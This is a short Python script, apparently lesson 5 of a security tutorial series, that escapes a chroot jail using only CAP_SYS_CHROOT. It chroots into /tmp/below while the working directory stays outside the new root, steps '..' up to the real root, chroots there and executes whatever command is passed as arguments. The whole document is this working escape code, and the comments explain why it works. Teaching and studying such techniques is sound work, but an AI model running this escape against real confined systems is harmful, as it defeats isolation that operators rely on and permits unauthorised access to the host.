#!/usr/bin/python3
# Lesson 5: out of a chroot, with nothing but CAP_SYS_CHROOT, and the arguments run there as a command.
# chroot(2) moves our root, and not our working directory: that is outside of our root then, and ".."
# only stops at the root.
import os
import sys

os.makedirs("/tmp/below", exist_ok=True)
os.chdir("/")
os.chroot("/tmp/below")
for _ in range(64):  # ".." of the real root is itself
    os.chdir("..")
os.chroot(".")
os.execvp(sys.argv[1], sys.argv[1:])
